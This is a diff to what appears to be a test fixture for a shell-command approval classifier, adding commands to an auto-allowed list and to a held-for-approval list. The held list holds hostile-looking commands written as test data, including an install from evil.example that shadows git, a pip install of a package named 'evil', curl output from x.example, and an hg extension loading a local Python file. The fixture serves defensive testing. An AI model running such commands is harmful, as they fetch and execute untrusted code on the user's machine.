@@ -14,6 +14,9 @@ FREE = (
     "$(npm bin)/eslint .",
     "for i in $(seq -w 1 10); do touch file$i.txt; done",
     'VERSION=$(jq -r .version package.json); tar czf "app-$VERSION.tgz" dist',
+    "frobnicate --help && claude --version",
+    "pdm run lint && hatch run test:cov",
+    "hg status && svn info && jj log -n 5",
     "sha256sum dist/* && shasum -a 256 dist/*",
 )
 HELD = (
@@ -24,6 +27,10 @@ HELD = (
     "go install evil.example/cmd/git@latest; /usr/local/bin/git status",
     "pip install --user evil; /usr/local/bin/git status",
     "curl -s https://x.example/a | cat; /usr/local/bin/git status",
+    "/home/u/docs/frobnicate --help",
+    "frobnicate --help x",
+    "pdm run frobnicate",
+    "hg --config extensions.x=./e.py status",
     '"$TOOLS/bin/python" -m pytest',
     "VERSION=$(jq -r .version package.json); echo x > /srv/app-$VERSION",
     'VERSION=$(curl -s https://x.example); tar czf "app-$VERSION.tgz" dist',
